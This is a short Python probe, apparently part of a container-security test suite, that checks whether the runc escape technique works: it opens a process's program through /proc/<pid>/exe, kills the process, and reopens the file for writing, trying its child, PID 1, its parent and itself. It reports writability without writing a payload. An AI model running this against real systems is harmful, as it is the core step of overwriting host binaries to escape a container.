"""Overwrites the program of a running process by the descriptor that /proc gives of it, once it runs no more.
So runc's own binary was once replaced from inside a container."""
import os
import shutil
import signal
import time

from attack import is_control, stopped, through


def open_program(pid):
    """A process that is only just beginning is closed to everybody for a moment."""
    for _ in range(20):
        try:
            return os.open(f'/proc/{pid}/exe', os.O_RDONLY)
        except PermissionError:
            time.sleep(0.02)
    return os.open(f'/proc/{pid}/exe', os.O_RDONLY)


def reopen(pid):
    """Opens the process's program to read, ends the process, and opens what it has to write."""
    reading = open_program(pid)
    if pid not in (1, os.getppid(), os.getpid()):
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    os.close(os.open(f'/proc/self/fd/{reading}', os.O_WRONLY))


program = '/bin/sleep'
if is_control():
    program = shutil.copy(program, os.path.abspath('sleep'))
child = os.posix_spawn(program, ['sleep', '20'], {})
for pid in [child] if is_control() else [child, 1, os.getppid(), os.getpid()]:
    name = f'process {pid}'
    try:
        reopen(pid)
        through(f'the program of {name} is open to write')
    except OSError as error:
        stopped(f'{name}: {error.strerror}')
